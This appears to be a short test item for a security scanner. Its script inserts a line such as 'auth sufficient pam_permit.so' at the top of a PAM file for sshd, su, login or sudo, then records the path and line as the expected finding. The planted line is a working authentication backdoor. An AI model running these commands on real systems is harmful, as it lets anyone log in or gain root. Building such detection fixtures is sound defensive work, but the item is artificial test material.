# id: P158
# mode: scan
# level: suspicious
# title: an authentication that always succeeds
# due: now
pick file sshd su login common-auth sudo
pick line 'auth sufficient pam_permit.so' 'auth	[success=done default=ignore]	pam_permit.so' 'auth  [default=done]  pam_permit.so' "auth sufficient pam_succeed_if.so uid >= 0"
sed -i "1i $line" "/etc/pam.d/$file"
said path "/etc/pam.d/$file"
said line "/etc/pam.d/$file:1"
